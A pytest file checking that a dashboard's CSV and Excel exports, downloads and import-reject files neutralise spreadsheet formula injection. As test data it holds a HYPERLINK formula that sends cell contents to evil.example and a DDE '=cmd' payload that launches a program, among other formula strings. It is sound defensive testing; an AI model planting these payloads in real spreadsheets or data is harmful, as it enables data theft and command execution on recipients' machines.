"""Spreadsheet (CSV/formula) injection: no file written for a user holds a live formula from the data.

Every CSV and Excel file, from `manage.py export`, the page downloads and the import rejects, goes through
queries.spreadsheet.neutralise: a text cell starting with =, +, -, @, tab, CR or LF gets a leading quote
(OWASP, "CSV Injection"); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
import math
from datetime import date, datetime
from urllib.parse import quote

import numpy as np
import openpyxl
import pandas as pd
import pytest
from sqlalchemy import text

import manage
from builders import inside, square, write_export
from conftest import PG_URL
from ingest.importer import import_export
from queries.db import make_engine
from queries.exports import KINDS
from queries.spreadsheet import FORMULA_TRIGGERS, csv_bytes, excel_bytes, neutralise, neutralise_cell

LINK = '=HYPERLINK("http://evil.example/?d="&A2,"klik")'


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def dangerous(cell) -> bool:
    """A cell a spreadsheet would run: text (not a number) starting with a trigger character."""
    return isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS) and not is_number(cell)


# --- the function itself --------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", [LINK, "=1+2", "+62 812 3456", "-5 orang", "-3", "@SUM(A1:A9)", "\t=1+2",
                                  "\r=1+2", "\n=1+2", "=", "-"])
def test_text_starting_with_a_trigger_gets_a_leading_quote(cell):
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Desa Satu", "", "'=1+2", "35.21.01.2001", "1 = 1", "a\t=1", " x", "#N/A"])
def test_other_text_is_left_as_written(cell):
    assert neutralise_cell(cell) == cell


@pytest.mark.parametrize("cell", [-3, -0.5, 0, np.int64(-7), np.float64(-2.25), True, None, date(2024, 3, 5),
                                  datetime(2024, 3, 5, 9, 0), pd.Timestamp("2024-03-05 09:00")])
def test_non_text_cells_are_returned_unchanged(cell):
    assert neutralise_cell(cell) is cell


def test_nan_stays_nan():
    assert math.isnan(neutralise_cell(float("nan")))


def test_a_frame_keeps_its_numbers_and_neutralises_only_its_text():
    frame = pd.DataFrame({
        "=header": ["-5 orang", "Desa", None],
        "count": [-3, 0, 7],
        "rate": [-0.5, np.nan, 0.25],
        "mixed": [-3, "-3", date(2024, 3, 5)],  # an object column: a number, text that looks like one, a date
        "flag": [True, False, True],
        "when": pd.to_datetime(["2024-03-05", "2024-03-06", None]),
        "category": pd.Categorical(["@cat", "ok", "@cat"]),
    })
    safe = neutralise(frame)
    assert list(safe.columns) == ["'=header", "count", "rate", "mixed", "flag", "when", "category"]
    assert safe["'=header"].tolist()[:2] == ["'-5 orang", "Desa"] and pd.isna(safe["'=header"].iloc[2])
    assert safe["count"].dtype == np.int64 and safe["count"].tolist() == [-3, 0, 7]
    assert safe["rate"].dtype == np.float64 and safe["rate"].iloc[0] == -0.5 and np.isnan(safe["rate"].iloc[1])
    assert safe["mixed"].tolist() == [-3, "'-3", date(2024, 3, 5)] and isinstance(safe["mixed"].iloc[0], int)
    assert safe["flag"].dtype == bool and safe["when"].equals(frame["when"])
    assert safe["category"].tolist() == ["'@cat", "ok", "'@cat"]
    assert frame.columns[0] == "=header" and frame["=header"].iloc[0] == "-5 orang"  # the caller's frame is kept


# --- manage.py export on a database whose every name and code is hostile --------------------------------------

START, END = "2024-03-04", "2024-03-17"
PS1, PS2 = "-PS", "@PS"
V1, V2 = "-35.01", "=35.02"
O1, O2 = "-8001", "@8002"


def hostile_export(directory):
    """Units, villages, officers, reports, complaints and crimes with every name and code a formula."""
    units = [{"code": "=PD", "name": LINK, "level": "polda", "parent_code": ""},
             {"code": "+PR", "name": "+Polres", "level": "polres", "parent_code": "=PD"},
             {"code": PS1, "name": "-Polsek Satu", "level": "polsek", "parent_code": "+PR"},
             {"code": PS2, "name": "@SUM(1+1)", "level": "polsek", "parent_code": "+PR"}]
    villages = [{"village_code": V1, "village": LINK, "unit_code": PS1, "households": 100, "population": 370,
                 "timezone": "Asia/Jakarta", "district": "=cmd|' /C calc'!A0", "geometry": square(110.0, -7.0)},
                {"village_code": V2, "village": "+62 812", "unit_code": PS2, "households": 50, "population": 185,
                 "timezone": "Asia/Jakarta", "geometry": square(110.02, -7.0)}]
    officers = [{"nrp": O1, "name": "=1+2", "rank": "-Bripka", "unit_code": PS1},
                {"nrp": O2, "name": "@cmd", "rank": "Aipda", "unit_code": PS2}]
    assignments = [{"nrp": O1, "village_code": V1, "start_date": "2024-01-01"},
                   {"nrp": O2, "village_code": V2, "start_date": "2024-01-01"}]
    lat, lng = inside(1)
    activities = [
        {"report_id": "=R1", "nrp": O1, "village_code": V1, "activity_type": "dds",
         "activity_at": "2024-03-05T09:00:00+07:00", "submitted_at": "2024-03-05T10:00:00+07:00", "lat": lat,
         "lng": lng, "household_id": "-HH1", "narrative": "-5 orang hadir " + LINK},
        {"report_id": "+R2", "nrp": O1, "village_code": V1, "activity_type": "dds",  # late: sent 51 h after
         "activity_at": "2024-03-06T09:00:00+07:00", "submitted_at": "2024-03-08T12:00:00+07:00", "lat": lat,
         "lng": lng, "household_id": "=HH2", "narrative": "@SUM(A1:A9)"},
        {"report_id": "@R3", "nrp": O2, "village_code": V2, "activity_type": "deteksi_dini",  # no GPS
         "activity_at": "2024-03-05T09:00:00+07:00", "submitted_at": "2024-03-05T09:30:00+07:00",
         "narrative": "\t=cmd"},
    ]
    complaints = [{"complaint_id": "-C1", "village_code": V1, "category": LINK, "channel": "+WhatsApp",
                   "created_at": "2024-03-05T08:00:00+07:00", "first_response_at": "2024-03-05T10:00:00+07:00",
                   "resolved_at": "2024-03-06T08:00:00+07:00", "nrp": O1}]
    # Four crimes in -PS in the 14 days before the window and none in it: z = 2 (sqrt 0 - sqrt 4) = -4.
    crimes = [{"incident_id": f"=I{day}", "village_code": V1, "category": "-Curat",
               "occurred_at": f"2024-02-{day}T20:00:00+07:00"} for day in (25, 26, 27, 28)]
    crimes.append({"incident_id": "@I5", "village_code": V2, "category": "@Curas",
                   "occurred_at": "2024-03-10T20:00:00+07:00"})
    return write_export(directory, units=units, villages=villages, officers=officers, assignments=assignments,
                        activities=activities, complaints=complaints, crimes=crimes)


@pytest.fixture
def hostile_url(engine, tmp_path):
    """The hostile export imported into SQLite or PostgreSQL; a URL manage.py can open."""
    report = import_export(engine, hostile_export(tmp_path / "export"))
    assert report.ok, [str(p) for p in report.problems]
    if engine.dialect.name == "sqlite":
        return engine.url.render_as_string(hide_password=False)
    with engine.connect() as conn:
        schema = conn.execute(text("SELECT current_schema()")).scalar_one()
    return f"{PG_URL}?options={quote(f'-csearch_path={schema}')}"


def export_rows(capsys, url, kind, *options) -> list[dict[str, str]]:
    assert manage.main(["export", kind, "--start", START, "--end", END, "--db", url, *options]) == 0
    out = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(out)))
    assert not [cell for row in rows for cell in row if dangerous(cell)]
    return [dict(zip(rows[0], row)) for row in rows[1:]]


def test_every_export_kind_is_inert_and_keeps_its_numbers(hostile_url, capsys):
    runs = {(kind, level): export_rows(capsys, hostile_url, kind, "--level", level)
            for kind in KINDS for level in ("polsek", "polres", "polda")}
    identifiers = {"nrp", "village_code", "report_id", "unit_code", "flags", "last_dds_date", "blind_spot"}
    for (kind, level), rows in runs.items():
        assert rows, (kind, level)
        for row in rows:  # every other column is a number or empty ("not defined")
            assert all(is_number(value) for column, value in row.items() if column not in identifiers and value)

    coverage = {row["village_code"]: row for row in runs[("coverage", "polsek")]}
    assert coverage == {
        "'-35.01": {"village_code": "'-35.01", "unit_code": "'-PS", "households_visited": "2", "coverage": "0.02",
                    "dds_visits": "2", "last_dds_date": "2024-03-06", "blind_spot": "false", "households": "100"},
        "'=35.02": {"village_code": "'=35.02", "unit_code": "'@PS", "households_visited": "0", "coverage": "0.0",
                    "dds_visits": "0", "last_dds_date": "", "blind_spot": "true", "households": "50"}}
    quality = {row["report_id"]: (row["nrp"], row["village_code"], row["flags"]) for row in runs[("quality", "polsek")]}
    assert quality == {"'=R1": ("'-8001", "'-35.01", ""), "'+R2": ("'-8001", "'-35.01", "late"),
                       "'@R3": ("'@8002", "'=35.02", "gps_missing")}
    compliance = {row["nrp"]: row for row in runs[("compliance", "polsek")]}
    assert compliance["'-8001"]["unit_code"] == "'-PS"  # the officer's Polsek, quoted like every other code
    # 12 reporting days (Mon-Sat) in the window; -8001 reported on Tue 5 and Wed 6, the Wednesday report late.
    assert {key: compliance["'-8001"][key] for key in ("expected_days", "reported_days", "on_time_days",
                                                        "late_reports", "dds_target", "quality_rate")} == {
        "expected_days": "12", "reported_days": "2", "on_time_days": "1", "late_reports": "1", "dds_target": "24",
        "quality_rate": "0.5"}
    complaints = {row["unit_code"]: row for row in runs[("complaints", "polsek")]}
    assert (complaints["'-PS"]["complaints"], complaints["'-PS"]["first_response_median_h"],
            complaints["'-PS"]["resolution_median_h"], complaints["'@PS"]["complaints"]) == ("1", "2.0", "24.0", "0")
    effectiveness = {row["unit_code"]: row for row in runs[("effectiveness", "polsek")]}
    # A negative number is a number: written as it is, not quoted.
    assert (effectiveness["'-PS"]["crime_change_z"], effectiveness["'-PS"]["crimes_previous"],
            effectiveness["'-PS"]["crime_rank"]) == ("-4.0", "4", "2")
    assert (effectiveness["'@PS"]["crime_change_z"], effectiveness["'@PS"]["crime_rank"]) == ("2.0", "1")
    assert [row["unit_code"] for row in runs[("effectiveness", "polres")]] == ["'+PR"]
    assert [row["unit_code"] for row in runs[("complaints", "polda")]] == ["'=PD"]


# --- page downloads: CSV and Excel -----------------------------------------------------------------------------


def hostile_frame() -> pd.DataFrame:
    """A compliance-like table as a page offers it: names from the field, numbers with negative values."""
    return pd.DataFrame({
        "Nama": ["=1+2", LINK, "#N/A", "Agus"],
        "Desa": ["+62 812", "@SUM(A1)", "-5 orang", "a\x01b"],  # \x01: a control character Excel cannot store
        "Laporan": [3, 0, -3, 12],
        "Tingkat": [0.5, None, -0.25, 1.0],
        "Campuran": [-3, "-3", 1.5, None],
    })


def test_excel_download_holds_no_formula_and_keeps_numbers():
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes(hostile_frame(), "Kepatuhan")))["Kepatuhan"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert [cell.value for cell in cells if isinstance(cell.value, str) and cell.value.startswith("=")] == []
    assert not [cell.value for cell in cells if dangerous(cell.value)]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[1][:2] == ["'=1+2", "'+62 812"] and values[2][0] == "'" + LINK
    assert values[3][:2] == ["#N/A", "'-5 orang"] and sheet["A4"].data_type == "s"  # text, not an Excel error
    assert values[4][1] == "a\ufffdb"  # kept, with the character Excel refuses marked
    assert [row[2] for row in values[1:]] == [3, 0, -3, 12] and sheet["C4"].data_type == "n"
    assert [row[3] for row in values[1:]] == [0.5, None, -0.25, 1.0] and sheet["D4"].data_type == "n"
    assert [row[4] for row in values[1:]] == [-3, "'-3", 1.5, None] and sheet["E2"].data_type == "n"


def read_csv_download(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the names as UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_download_is_inert_and_keeps_numbers():
    rows = read_csv_download(csv_bytes(hostile_frame()))
    assert not [cell for row in rows for cell in row if dangerous(cell)]
    assert [row[0] for row in rows[1:]] == ["'=1+2", "'" + LINK, "#N/A", "Agus"]
    assert [row[2] for row in rows[1:]] == ["3", "0", "-3", "12"]
    assert [row[3] for row in rows[1:]] == ["0.5", "", "-0.25", "1.0"]
    assert [row[4] for row in rows[1:]] == ["-3", "'-3", "1.5", ""]


def test_a_separator_or_quote_inside_text_cannot_start_a_new_cell():
    # OWASP: a formula after a comma or a quote inside the text must not become a cell of its own.
    frame = pd.DataFrame({"Desa": ['x,=1+2', 'x";=1+2', "=1+2\n=3+4"], "Laporan": [1, 2, 3]})
    rows = read_csv_download(csv_bytes(frame))
    assert rows[1:] == [["x,=1+2", "1"], ['x";=1+2', "2"], ["'=1+2\n=3+4", "3"]]


@pytest.fixture
def offered(monkeypatch):
    """What the page's download buttons hand to the browser, by file name."""
    files = {}
    monkeypatch.setattr("streamlit.download_button",
                        lambda label, data, file_name, **options: files.update({file_name: data}))
    return files


def test_page_download_buttons_offer_inert_files(offered):
    from components.tables import download_button, excel_button

    download_button(hostile_frame(), "kepatuhan.csv", "csv")
    excel_button(hostile_frame(), "kepatuhan.xlsx", "xlsx", sheet="Kepatuhan")
    assert offered["kepatuhan.csv"] == csv_bytes(hostile_frame())
    rows = read_csv_download(offered["kepatuhan.csv"])
    assert rows[1][:2] == ["'=1+2", "'+62 812"] and not [c for row in rows for c in row if dangerous(c)]
    sheet = openpyxl.load_workbook(io.BytesIO(offered["kepatuhan.xlsx"])).active
    assert sheet["A2"].value == "'=1+2" and sheet["A2"].data_type == "s" and sheet["C4"].value == -3


# --- import rejects: the CLI file and the upload page's downloads ----------------------------------------------


def rejected_export(directory):
    """An export whose rejected rows carry formulas: in the values, in the reasons that quote them, in the row."""
    units = [{"code": "PD", "name": "Polda", "level": "polda", "parent_code": ""},
             {"code": "PR", "name": "Polres", "level": "polres", "parent_code": "PD"},
             {"code": "PS", "name": "Polsek", "level": "polsek", "parent_code": "PR"}]
    villages = [{"village_code": "35.01", "village": "Desa", "unit_code": "PS", "households": 10,
                 "geometry": square(110.0, -7.0)}]
    officers = [{"nrp": "8001", "name": "Agus", "unit_code": "PS"}, {"nrp": "8002", "name": LINK, "unit_code": "-X"}]
    activities = [
        {"report_id": "R1", "nrp": "8001", "village_code": "35.01", "activity_type": "pelayanan",
         "activity_at": "2024-03-05T09:00:00+07:00", "submitted_at": "2024-03-05T10:00:00+07:00",
         "lat": "-95", "lng": "110", "narrative": LINK},  # lat out of range: the reason starts "-95 is out ..."
        {"report_id": "=R2", "nrp": "=1+2", "village_code": "35.01", "activity_type": "@type",
         "activity_at": "2024-03-05T09:00:00+07:00", "submitted_at": "2024-03-05T10:00:00+07:00",
         "narrative": "-5 orang"},
    ]
    return write_export(directory, units=units, villages=villages, officers=officers, activities=activities)


def test_cli_rejects_file_is_inert_and_keeps_the_row_as_read(tmp_path, capsys):
    rejects = tmp_path / "rejects.csv"
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    manage.main(["import", str(rejected_export(tmp_path / "export")), "--db", url, "--keep-valid",
                 "--rejects", str(rejects)])
    capsys.readouterr()
    rows = list(csv.reader(rejects.open(encoding="utf-8")))
    assert rows[0] == ["file", "line", "column", "reason", "record"]
    assert not [cell for row in rows for cell in row if dangerous(cell)]
    by_place = {(row[0], row[1], row[2]): row for row in rows[1:]}
    assert by_place[("activities.csv", "2", "lat")][3] == "'-95 is out of range [-90, 90]"
    assert json.loads(by_place[("activities.csv", "2", "lat")][4])["narrative"] == LINK  # the row as read, whole
    assert json.loads(by_place[("officers.csv", "3", "unit_code")][4])["name"] == LINK
    assert json.loads(by_place[("activities.csv", "3", "nrp")][4])["narrative"] == "-5 orang"


def test_upload_page_rejects_downloads_are_inert(tmp_path, monkeypatch, offered):
    from components import import_view

    for name in ("error", "warning", "dataframe", "caption"):
        monkeypatch.setattr(f"streamlit.{name}", lambda *args, **options: None)
    url = f"sqlite:///{tmp_path / 'db.sqlite'}"
    report = import_export(make_engine(url), rejected_export(tmp_path / "export"), dry_run=True)
    assert report.problems
    import_view.show_report(report, "dry")
    history = pd.DataFrame([{"id": 7, "finished_at": datetime(2024, 3, 5), "imported_by": "admin",
                             "source": "=upload.zip", "mode": "keep-valid", "rows_read": 6, "rows_new": 4,
                             "rows_updated": 0, "rows_unchanged": 0, "rows_rejected": 3,
                             "report_json": report.to_json()}])
    monkeypatch.setattr("streamlit.selectbox", lambda label, options, **kw: options[0])
    import_view.history_table(history, "Asia/Jakarta")
    for name in ("baris_ditolak.csv", "ditolak_impor_7.csv"):
        rows = read_csv_download(offered[name])
        assert not [cell for row in rows for cell in row if dangerous(cell)], name
        assert "'-95' di luar rentang -90 sampai 90" in [row[3] for row in rows], name  # in the page's language
        records = [json.loads(row[4]) for row in rows[1:] if row[4]]
        assert LINK in [record.get("narrative") for record in records], name
